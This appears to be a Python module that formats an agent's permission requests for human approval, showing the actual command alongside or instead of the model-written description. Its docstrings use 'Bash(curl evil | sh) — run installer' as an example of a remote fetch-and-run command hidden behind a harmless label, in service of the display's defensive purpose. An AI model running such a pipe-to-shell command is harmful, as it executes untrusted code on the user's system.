"""What a request would run, in words the person can trust (no Textual).

A permission request's own title is its asker's description (``team-lead: run installer``):
words a model wrote. Every row, dialog and list that names a request shows the command itself
instead, its start and its end when it is long (``Bash(curl -s … | sh)``), the description
only beside it (``Bash(curl evil | sh) — run installer``). Everything passes
:func:`app.display.agent_text.shown` (an escape sequence in a command reads as ``\\x1b``).
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import TYPE_CHECKING, Any

from app.display.agent_text import command_line, elide_middle, flat, shown
from app.display.fit import cell_len, cut

if TYPE_CHECKING:  # read by its fields only: the archive passes the runtime's objects too
    from app.core.protocol import PermissionRequest  # an annotation: --help loads no models
    from app.runtime.api import Approval

#: The fewest cells the command keeps in a row before the description and the agent go.
LEAST = 12
#: The longest rule the permission dialog's "Always allow adds the rule ..." line shows
#: (its start and its end; the command box above shows the whole command).
RULE_CELLS = 240


def subject(tool_input: Mapping[str, Any] | None) -> str:
    """What a tool call acts on: its ``command``, else its first text value (a path, a
    pattern); "" for none."""
    data = tool_input or {}
    value = data.get("command")
    if not isinstance(value, str):
        value = next((v for v in data.values() if isinstance(v, str) and v), "")
    return value


def call_words(tool: str, tool_input: Mapping[str, Any] | None, width: int) -> str:
    """``Bash(command)`` in ``width`` cells, the middle of the command elided to fit, with
    its ``description`` after it while there is room (``Bash(curl evil | sh) — run
    installer``)."""
    name = flat(tool) or "tool"
    inside = command_line(subject(tool_input))
    description = (tool_input or {}).get("description")
    about = flat(description, 120) if isinstance(description, str) else ""
    core = f"{name}({inside})" if inside else name
    if about and about != inside and cell_len(core) + 3 + cell_len(about) <= width:
        return f"{core} — {about}"
    if cell_len(core) <= width or not inside:
        return core
    room = max(LEAST, width - cell_len(name) - 2)
    return f"{name}({elide_middle(inside, room)})"


def asked_words(frame: PermissionRequest, width: int = 160) -> str | None:
    """A permission request frame as the feed and the CLI name it: ``permission requested:
    Bash(curl evil | sh) — run installer``; ``None`` when its input names nothing to run
    (the frame's words then stand)."""
    data = frame.input if isinstance(frame.input, dict) else {}
    if not subject(data):
        return None
    if frame.description and not isinstance(data.get("description"), str):
        data = {**data, "description": frame.description}
    return f"permission requested: {call_words(frame.tool_name, data, width)}"


def request_words(approval: Approval, width: int) -> str:
    """What ``approval`` asks for, without its asker: ``Bash(…)`` for a permission request
    whose input names what it runs, else its title's words (``plan approval``)."""
    if approval.kind == "permission" and subject(approval.tool_input):
        return call_words(approval.tool_name or "permission", described(approval), width)
    return _title_words(approval)


def _title_words(approval: Approval) -> str:
    title = approval.title
    prefix = f"{approval.agent}: "
    return flat(title[len(prefix) :] if title.startswith(prefix) else title)


def described(approval: Approval) -> dict[str, Any]:
    """The request's input with its asker's description: the input's own, else the one its
    title carries (a request frame's ``description`` is outside its input)."""
    data = dict(approval.tool_input or {})
    words = _title_words(approval)
    if not isinstance(data.get("description"), str) and words not in (
        flat(approval.tool_name or ""),
        flat(subject(data)),
    ):
        data["description"] = words
    return data


def request_line(approval: Approval, width: int) -> str:
    """``agent: Bash(…)`` in ``width`` cells (an approvals row, the agent view's pending
    line): the command keeps its start and its end, the description goes first. Narrow, the
    asker's name shortens and a shell command drops its ``Bash(...)`` for ``$ ``
    (``res…: $ git … rt``) before the command's end would go."""
    who = flat(approval.agent)
    command = command_line(subject(approval.tool_input))
    if approval.kind != "permission" or not command:
        return f"{who}: {request_words(approval, max(LEAST, width - cell_len(who) - 2))}"
    tool = flat(approval.tool_name or "permission")
    room = width - cell_len(who) - 2
    least = min(cell_len(who), 4)
    shell = tool == "Bash"
    forms = [(f"{tool}(", ")"), ("$ ", "")] if shell else [(f"{tool}(", ")")]
    if cell_len(tool) + 2 + cell_len(command) <= room:  # whole, with room for the description
        return f"{who}: {call_words(tool, described(approval), room)}"
    for prefix, suffix in forms:  # whole, the name shortened
        whole = len(prefix) + cell_len(command) + len(suffix)
        if width - 2 - least >= whole:
            return f"{cut(who, width - 2 - whole)}: {prefix}{command}{suffix}"
    if cell_len(tool) + 2 + LEAST <= room:  # the middle elided
        return f"{who}: {call_words(tool, described(approval), room)}"
    # Narrower still: the name short, a shell command as "$ ...", its middle elided.
    prefix, suffix = forms[-1]
    wrap = len(prefix) + len(suffix)
    who = cut(who, max(least, min(cell_len(who), width - 2 - wrap - LEAST)))
    room = max(5, width - cell_len(who) - 2 - wrap)
    return f"{who}: {prefix}{elide_middle(command, room)}{suffix}"


def request_what(approval: Approval, width: int) -> str:
    """What ``approval`` asks, without its asker, in ``width`` cells: a permission's call
    (``Bash(...)``, or ``$ ...`` when narrow) keeps the command's start and end; the second
    line of a narrow approvals row (``widgets.approvals``)."""
    command = command_line(subject(approval.tool_input))
    if approval.kind != "permission" or not command:
        return request_words(approval, max(1, width))
    tool = flat(approval.tool_name or "permission")
    if cell_len(tool) + 2 + min(cell_len(command), LEAST) <= width or tool != "Bash":
        return call_words(tool, described(approval), width)
    return f"$ {elide_middle(command, max(5, width - 2))}"


def rule_words(rule: str, width: int = RULE_CELLS) -> str:
    """The rule "Always allow" adds, on one line, its middle elided past ``width`` cells."""
    return elide_middle(command_line(rule), width)


__all__ = [
    "asked_words",
    "call_words",
    "request_line",
    "request_words",
    "rule_words",
    "shown",
    "subject",
]
